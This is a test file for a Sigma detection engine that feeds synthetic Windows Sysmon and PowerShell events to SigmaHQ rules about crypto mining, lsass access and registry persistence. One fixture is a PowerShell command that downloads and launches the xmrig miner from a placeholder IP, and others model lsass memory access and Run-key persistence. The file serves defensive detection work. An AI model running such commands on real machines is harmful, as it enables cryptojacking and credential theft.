/**
 * SigmaHQ's Windows rules on Windows events: they route (logsource → datasets and categories declared by
 * the Windows sources) and their fields (Image, CommandLine, DestinationHostname, ImageLoaded, Hashes,
 * TargetObject, EventID ...) reach the mapped ECS fields or winlog.event_data.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { join } from "node:path";
import type { Event } from "../../model/index.js";
import { parseWith, sharedFixture } from "../../test-helpers/index.js";
import { loadRules } from "../../detect/sigma/loader.js";
import { SigmaEngine } from "../../detect/sigma/engine.js";
import { compileRuleSources } from "../../detect/sigma/loader.js";
import { defaultTables } from "../../detect/sigma/tables.js";
import { evtxSource } from "./evtx-source.js";
import { WINDOWS_EMITS } from "./emits.js";
import { eventTable } from "./event-table.js";
import { buildEvtx, sysmonEvent, type BuildEvent } from "./test-helpers/evtx-builder.js";
import { minerScenario } from "./test-helpers/miner-scenario.js";

function hits(rules: Awaited<ReturnType<typeof loadRules>>["rules"], events: Event[]): Map<string, number[]> {
  const out = new Map<string, number[]>();
  const engine = new SigmaEngine(rules, { detection: (rule, event) => {
    const list = out.get(rule.meta.title) ?? [];
    list.push(Number(event["winlog.event_id"]));
    out.set(rule.meta.title, list);
  } });
  for (const e of events) engine.process(e);
  return out;
}

const MINING_RULES = [
  "rules/windows/process_creation/proc_creation_win_susp_crypto_mining_monero.yml",
  "rules/windows/network_connection/net_connection_win_domain_crypto_mining_pools.yml",
  "rules/network/dns/net_dns_pua_cryptocoin_mining_xmr.yml",
  "rules/windows/driver_load/driver_load_win_vuln_winring0_driver.yml",
];

test("SigmaHQ's Windows mining rules route and match a miner's Sysmon events", async (t) => {
  const root = sharedFixture(t, "sigmahq");
  if (!root) return;
  const loaded = await loadRules(MINING_RULES.map((r) => join(root, r)));
  assert.deepEqual(loaded.refused, []);
  for (const r of loaded.rules) assert.ok(r.kind === "detection" && r.route, `${r.meta.title} is routed`);
  const events = (await parseWith(evtxSource, buildEvtx(minerScenario()), "miner.evtx")).events;
  const h = hits(loaded.rules, events);
  assert.deepEqual(h.get("Potential Crypto Mining Activity"), [1]);
  assert.deepEqual(h.get("Network Communication With Crypto Mining Pool"), [3]);
  assert.deepEqual(h.get("Monero Crypto Coin Mining Pool Lookup"), [22]);
  assert.deepEqual(h.get("Vulnerable WinRing0 Driver Load"), [6]);
});

function rule(logsource: string, detection: string): string {
  return `title: t\nid: 0e3f6c1a-0000-4000-8000-000000000001\nstatus: test\nlogsource:\n${logsource}\ndetection:\n${detection}\nlevel: high\n`;
}

test("each Windows logsource sees only its own kind of record; EventData names reach winlog.event_data", async () => {
  const t0 = new Date("2026-11-20T03:14:07Z");
  const built: BuildEvent[] = [
    sysmonEvent(1, "WS-1", t0, [["Image", "C:\\Windows\\System32\\rundll32.exe"], ["CommandLine", "rundll32.exe x.dll,Start"], ["IntegrityLevel", "System"], ["User", "NT AUTHORITY\\SYSTEM"]]),
    sysmonEvent(7, "WS-1", t0, [["Image", "C:\\Windows\\System32\\rundll32.exe"], ["ImageLoaded", "C:\\Users\\Public\\x.dll"], ["Signed", "false"]]),
    sysmonEvent(13, "WS-1", t0, [["EventType", "SetValue"], ["Image", "C:\\Windows\\System32\\rundll32.exe"], ["TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x"], ["Details", "C:\\Users\\Public\\x.exe"]]),
    sysmonEvent(10, "WS-1", t0, [["SourceImage", "C:\\Windows\\System32\\rundll32.exe"], ["TargetImage", "C:\\Windows\\System32\\lsass.exe"], ["GrantedAccess", "0x1010"]]),
    sysmonEvent(5, "WS-1", t0, [["Image", "C:\\Windows\\System32\\rundll32.exe"], ["ProcessId", { type: "uint32", value: 77 }]]),
  ];
  const events = (await parseWith(evtxSource, buildEvtx(built), "kinds.evtx")).events;
  const load = (ls: string, det: string) => compileRuleSources([{ file: "r.yml", text: rule(ls, det) }], { tables: defaultTables() }).rules;
  const win = (category: string) => `  product: windows\n  category: ${category}`;
  assert.deepEqual(hits(load(win("process_creation"), "  sel:\n    Image|endswith: '\\rundll32.exe'\n    IntegrityLevel: System\n    User|contains: 'AUTHORI'\n  condition: sel"), events).get("t"), [1]);
  assert.deepEqual(hits(load(win("image_load"), "  sel:\n    Image|endswith: '\\rundll32.exe'\n    ImageLoaded|startswith: 'C:\\Users\\Public\\'\n    Signed: 'false'\n  condition: sel"), events).get("t"), [7]);
  assert.deepEqual(hits(load(win("registry_set"), "  sel:\n    EventType: SetValue\n    TargetObject|contains: '\\CurrentVersion\\Run\\'\n    Details|endswith: '.exe'\n  condition: sel"), events).get("t"), [13]);
  assert.deepEqual(hits(load("  product: windows\n  service: sysmon", "  sel:\n    EventID: 10\n    TargetImage|endswith: '\\lsass.exe'\n  condition: sel"), events).get("t"), [10]);
  assert.deepEqual(hits(load(win("process_access"), "  sel:\n    SourceImage|endswith: '\\rundll32.exe'\n    TargetImage|endswith: '\\lsass.exe'\n    GrantedAccess: '0x1010'\n  condition: sel"), events).get("t"), [10]);
  // A process ending (5), an image load (7) or a registry write (13) by rundll32 carries Image too: none is a process creation.
  assert.deepEqual(hits(load(win("process_creation"), "  sel:\n    Image|endswith: '\\rundll32.exe'\n  condition: sel"), events).get("t"), [1]);
  assert.deepEqual(hits(load("  product: windows\n  service: sysmon", "  sel:\n    Image|endswith: '\\rundll32.exe'\n  condition: sel"), events).get("t"), [1, 7, 13, 5]);
});

test("PowerShell script blocks (4104) reach ps_script rules through ScriptBlockText", async () => {
  const script = "$wc = New-Object System.Net.WebClient; $wc.DownloadFile('http://203.0.113.7/xmrig.exe', \"$env:TEMP\\xmrig.exe\"); Start-Process \"$env:TEMP\\xmrig.exe\" -ArgumentList '-o pool.minexmr.com:4444'";
  const built: BuildEvent[] = [
    { provider: "Microsoft-Windows-PowerShell", providerGuid: "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", eventId: 4104, channel: "Microsoft-Windows-PowerShell/Operational",
      computer: "WS-1", time: new Date("2026-11-20T03:14:07Z"), level: 5, task: 2, userSid: "S-1-5-21-1-2-3-1000",
      data: [["MessageNumber", { type: "int32", value: 1 }], ["MessageTotal", { type: "int32", value: 1 }], ["ScriptBlockText", script],
        ["ScriptBlockId", "{7F1B0C3A-2D4E-4F5A-9B6C-1D2E3F4A5B6C}"], ["Path", ""]] },
    sysmonEvent(1, "WS-1", new Date("2026-11-20T03:14:08Z"), [["Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"], ["CommandLine", script]]),
  ];
  const events = (await parseWith(evtxSource, buildEvtx(built), "ps.evtx")).events;
  assert.equal(events[0]!["event.dataset"], "windows.powershell.script");
  assert.equal(events[0]!["powershell.file.script_block_text"], script);
  const rules = compileRuleSources([{ file: "r.yml", text: rule("  product: windows\n  category: ps_script\n  definition: 'Script Block Logging must be enabled'",
    "  sel:\n    ScriptBlockText|contains|all:\n      - 'DownloadFile'\n      - 'xmrig'\n  condition: sel") }], { tables: defaultTables() }).rules;
  assert.deepEqual(hits(rules, events).get("t"), [4104]);
});

test("the emits declaration lists every dataset data/sources/windows-events.yaml can produce, with the same categories", () => {
  const declared = new Map(WINDOWS_EMITS.map((d) => [d.dataset, [...d.categories]]));
  for (const [dataset, categories] of eventTable().datasets) assert.deepEqual(declared.get(dataset), [...categories], dataset);
  assert.ok(declared.has("windows.eventlog"));
});
